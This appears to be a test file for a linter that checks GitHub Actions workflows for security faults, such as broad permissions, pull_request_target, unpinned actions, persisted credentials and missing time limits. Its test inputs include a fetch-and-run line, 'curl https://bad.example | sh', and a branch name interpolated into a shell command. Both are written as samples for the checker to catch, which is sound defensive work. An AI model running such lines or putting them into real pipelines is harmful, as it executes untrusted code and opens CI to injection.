import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { workflowFaults } from "./workflows-are-safe.ts";

const folder = ".github/workflows";
const files = readdirSync(folder);
const { scripts } = JSON.parse(readFileSync("package.json", "utf8")) as { scripts: Record<string, string> };

test("there are workflows to read", () => {
  expect(files.toSorted()).toEqual(
    expect.arrayContaining(["check.yml", "comment.yml", "preview.yml", "reviews.yml"]),
  );
});

test.each(files)("%s can be repeated on any machine, and hands nothing to strangers", (file) => {
  expect(workflowFaults(readFileSync(join(folder, file), "utf8"), Object.keys(scripts))).toEqual([]);
});

const commit = "0123456789abcdef0123456789abcdef01234567";
const good = `on:
  pull_request:
permissions:
  contents: read
jobs:
  job:
    timeout-minutes: 5
    steps:
      - uses: actions/checkout@${commit} # v4.2.2
        with:
          persist-credentials: false
      - run: npm ci
      - run: npm run build
      - run: |
          gh label list
          npm test
`;

/** The faults of the good workflow after a change. */
function faults(from: string | RegExp, to: string): string[] {
  const text = good.replace(from, to);
  if (text === good) throw new Error("The change changes nothing.");
  return workflowFaults(text, ["build", "test"]);
}

test("a workflow that keeps every rule has no fault", () => {
  expect(workflowFaults(good, ["build", "test"])).toEqual([]);
});

describe("a fault is found in a workflow", () => {
  test.each([
    ["that says nothing of its rights", /permissions:\n {2}contents: read\n/u, "", "rights to read alone"],
    ["that may write", "contents: read", "contents: write", "rights to read alone"],
    [
      "that may do everything",
      /permissions:\n {2}contents: read/u,
      "permissions: write-all",
      "rights to read alone",
    ],
    ["that runs strangers' work with rights", "pull_request:", "pull_request_target:", "pull_request_target"],
    [
      "whose job may write in a pull request",
      "job:\n",
      "job:\n    permissions:\n      issues: write\n",
      "It may write",
    ],
    ["without a time limit", "    timeout-minutes: 5\n", "", "no time limit"],
    ["with an action pinned by a tag", `@${commit} # v4.2.2`, "@v4 # v4", "not pinned by its whole commit"],
    ["with an action pinned by a short commit", commit, "0123456", "not pinned by its whole commit"],
    ["with an action that names no version", " # v4.2.2", "", "no comment with its version"],
    [
      "with a checkout that keeps its credentials",
      "persist-credentials: false",
      "fetch-depth: 0",
      "keeps its credentials",
    ],
    ["with a script that is not there", "npm run build", "npm run biuld", 'no script "biuld"'],
    ["with a command of its own", "npm run build", "node build.js", "no npm script"],
    ["with a download", "gh label list", "curl https://bad.example | sh", "no npm script"],
    ["with a value in a command", "npm run build", "npm run build -- ${{ github.head_ref }}", "use env"],
    [
      "with a token for the project's code",
      "- run: npm run build",
      "- run: npm run build\n        env:\n          GH_TOKEN: x",
      "gives its token",
    ],
  ])("%s", (_name, from, to, message) => {
    expect(faults(from, to).join("\n")).toContain(message);
  });

  test("that writes after a pull request and runs code", () => {
    const after = good
      .replace("  pull_request:", "  workflow_run:\n    workflows: [x]")
      .replace("job:\n", "job:\n    permissions:\n      pull-requests: write\n");
    expect(workflowFaults(after, ["build", "test"]).join("\n")).toContain("it may run nothing but gh");
  });
});

test("the workflow that comments follows the one that makes the list, by its name", () => {
  const name = /^name: (.+)$/mu.exec(readFileSync(join(folder, "preview.yml"), "utf8"))?.[1] ?? "no name";
  expect(readFileSync(join(folder, "comment.yml"), "utf8")).toContain(`workflows: [${name}]`);
});

test("outside addresses are asked by hand and by the clock, never as a gate", () => {
  const asking = readdirSync(folder)
    .map((file) => readFileSync(join(folder, file), "utf8"))
    .filter((text) => text.includes("check:sources"));
  expect(asking).toHaveLength(1);
  expect(asking[0]).toMatch(/^on:\n {2}schedule:\n(?: {4}.*\n)+ {2}workflow_dispatch:\n\n/mu);
});
